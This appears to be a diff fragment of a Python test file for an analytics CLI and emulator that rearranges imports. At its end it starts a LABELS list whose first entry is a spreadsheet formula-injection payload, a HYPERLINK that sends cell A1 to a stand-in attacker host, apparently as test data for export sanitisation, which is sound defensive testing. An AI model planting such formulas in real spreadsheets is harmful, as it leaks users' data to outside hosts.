@@ -14,12 +14,12 @@ from datetime import date, timedelta
 import openpyxl
 import pandas as pd
 import pytest
+from faultserver import PASS, FaultServer, write_org_file
 from openpyxl.utils.escape import unescape
 from typer.testing import CliRunner
 
 from analytics.cli import app as cli_app
 from emulator import EmulatorConfig, create_app
-from tests.faultserver import PASS, FaultServer, write_org_file
 
 LABELS = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
